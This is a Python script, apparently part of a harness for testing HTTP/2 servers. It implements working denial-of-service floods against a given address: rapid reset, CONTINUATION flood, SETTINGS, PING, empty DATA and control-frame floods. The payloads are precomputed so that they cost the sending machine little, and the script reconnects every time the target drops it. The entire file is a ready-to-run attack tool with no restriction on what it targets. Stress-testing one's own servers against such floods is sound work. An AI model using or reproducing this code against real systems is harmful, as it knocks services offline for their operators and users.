"""One attacker in a process of its own: floods an address, and connects again whenever it is sent away, until its input
ends. What it sends is made before it begins, so that it costs this machine as little as it can.

    python attack.py ADDRESS KIND    prints `attacking` when it has been sent away once, at the end how often it was
"""

import select
import sys
import threading

import hpack

from frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PREFACE,
    USUAL,
    frame,
    priority,
    rst,
    settings,
    window_update,
)
from raw import open_socket

#: A request without anything from the dynamic table, so that it means the same on every connection.
BLOCK = b"".join(hpack.Encoder().encode([field], huffman=False) for field in USUAL)
OPEN = frame(HEADERS, END_HEADERS, 1, BLOCK)


def resets() -> bytes:
    pieces = []
    for stream in range(1, 8_001, 2):
        pieces.append(frame(HEADERS, END_HEADERS, stream, b"\x83\x86\x84\x41\x01a") + rst(stream))
    return b"".join(pieces)


KINDS = {
    "rapid_reset": resets,
    "continuation_flood": lambda: frame(HEADERS, 0, 1, BLOCK) + frame(CONTINUATION, 0, 1, b"") * 1_000,
    "settings_flood": lambda: OPEN + settings((INITIAL_WINDOW_SIZE, 65_535)) * 20_000,
    "ping_flood": lambda: OPEN + frame(PING, 0, 0, b"12345678") * 20_000,
    "empty_frames": lambda: OPEN + frame(DATA, 0, 1, b"") * 40_000,
    "control_flood": lambda: OPEN + (priority(1, 0) + window_update(0, 1)) * 20_000,
}


def attack(address: str, what: bytes):
    """One connection, until it is closed."""
    with open_socket(address) as connection:
        rest = memoryview(PREFACE + settings() + settings(flags=1) + what)
        try:
            while True:
                readable, writable, _ = select.select([connection], [connection] if rest else [], [], 10)
                if readable and not connection.recv(262_144):
                    return
                if writable:
                    rest = rest[connection.send(rest[:60_000]) :]
        except (BrokenPipeError, ConnectionResetError):
            return


def main(address: str, kind: str):
    ended = threading.Event()
    threading.Thread(target=lambda: (sys.stdin.read(), ended.set()), daemon=True).start()
    what, times = KINDS[kind](), 0
    while not ended.is_set():
        attack(address, what)
        times += 1
        if times == 1:
            print("attacking", flush=True)
    print(times, flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
